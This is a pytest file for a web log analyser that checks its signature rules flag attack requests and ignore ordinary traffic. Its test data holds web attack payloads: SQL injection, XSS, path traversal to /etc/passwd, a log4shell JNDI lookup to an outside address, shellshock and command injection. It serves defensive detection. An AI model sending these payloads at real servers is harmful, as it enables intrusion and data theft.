from __future__ import annotations

import polars as pl
import pytest

from file_parser import parse
from log_analyser_core.rules import signatures


def frame(path: str, query: str | None = None, ua: str = "Mozilla/5.0") -> pl.DataFrame:
    return pl.DataFrame({"path": [path], "query": [query], "user_agent": [ua]})


def matched(path: str, query: str | None = None, ua: str = "Mozilla/5.0") -> set[str]:
    row = signatures.matches(frame(path, query, ua)).row(0, named=True)
    return {name for name, hit in row.items() if hit}


@pytest.mark.parametrize(("path", "query", "ua", "expected"), [
    ("/item", "id=1%27%20OR%20%271%27%3D%271", "x", "sig-sqli"),
    ("/item", "id=1+UNION+ALL+SELECT+user,pass+FROM+users--", "x", "sig-sqli"),
    ("/item", "id=1%2527%20AND%20SLEEP(5)--", "x", "sig-sqli"),                          # double-encoded quote
    ("/item", "id=-1/*!50000UnIoN*//*!50000SeLeCt*/1,2", "x", "sig-sqli"),              # comments and case
    ("/search", "q=%3CScRiPt%3Ealert(1)%3C/script%3E", "x", "sig-xss"),
    ("/search", "q=%22%3E%3Csvg/onload=alert(document.domain)%3E", "x", "sig-xss"),
    ("/download", "file=..%252f..%252f..%252fetc%252fpasswd", "x", "sig-path-traversal"),  # double-encoded
    ("/static/..%c0%af..%c0%afetc/passwd", None, "x", "sig-path-traversal"),             # overlong slash
    ("/", None, "${jndi:ldap://198.51.100.7/a}", "sig-rce"),                             # log4shell in the UA
    ("/", None, "() { :; }; /bin/bash -c 'id'", "sig-rce"),                              # shellshock
    ("/ping", "host=127.0.0.1%3Bcat%20/etc/hosts", "x", "sig-rce"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None, "x", "sig-rce"),
])
def test_payloads_are_recognised(path, query, ua, expected):
    assert expected in matched(path, query, ua)


@pytest.mark.parametrize(("path", "query", "ua"), [
    ("/blog/select-the-best-union-for-you", None, "Mozilla/5.0"),
    ("/search", "q=rock+and+roll&page=2", "Mozilla/5.0"),
    ("/products", "sort=price&order=desc&id=514125", "Mozilla/5.0"),
    ("/", None, "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10"),
    ("/", None, "Mozilla/5.0 (Linux; U; Android 4.1.2; id-id; GT-S6310 Build/JZO54K) AppleWebKit/534.30"),
    ("/docs/script-tutorial", "topic=onboarding", "Mozilla/5.0"),
    ("/files/archive.tar.gz", None, "Wget/1.21"),
])
def test_ordinary_requests_do_not_match(path, query, ua):
    assert matched(path, query, ua) == set()


def test_url_decode_is_one_round():
    decoded = pl.select(signatures.url_decode(pl.lit("%2527%41%u0041"))).item()
    assert decoded == "%27AA"


def test_detect_groups_by_client_with_examples(tmp_path):
    lines = [f'203.0.113.9 - - [10/Mar/2026:10:00:{i:02d} +0000] "GET /item?id={i}%27%20OR%201=1-- HTTP/1.1" '
             f'200 10 "-" "x"' for i in range(5)]
    lines.append('198.51.100.1 - - [10/Mar/2026:10:00:09 +0000] "GET /item?id=3 HTTP/1.1" 200 10 "-" "x"')
    log = tmp_path / "a.log"
    log.write_text("\n".join(lines) + "\n")
    evidence = signatures.detect(parse([str(log)]).events)
    assert set(evidence) == {"203.0.113.9"}
    (item,) = evidence["203.0.113.9"]
    assert item.rule_id == "sig-sqli" and item.count == 5 and item.kind == "signature"
    assert [x.line_number for x in item.examples] == [1, 2, 3]


def test_real_traffic_has_few_signature_hits(shared):
    events = parse([str(shared / "public" / "elastic_examples" / "apache_logs")]).events
    assert len(signatures.detect(events)) <= 2   # of 1,753 clients of a real blog


@pytest.mark.parametrize("chunk_events", [97, 1000, 4096])
def test_matching_in_chunks_finds_what_one_pass_finds(shared, chunk_events):
    # a scanner's payloads among its crawling; the chunk sizes split the rows at different places,
    # so that a value repeated across chunks is matched in each
    events = parse([str(shared / "public" / "ocatak_apache-http-logs" / "acunetix.txt")]).events
    whole = signatures.matches(events)
    assert whole.height == events.height and whole.select(pl.any_horizontal(pl.all())).to_series().sum() == 300
    assert signatures.matches(events, chunk_events=chunk_events).equals(whole)
    assert signatures.matches(events.head(0), chunk_events=chunk_events).columns == whole.columns
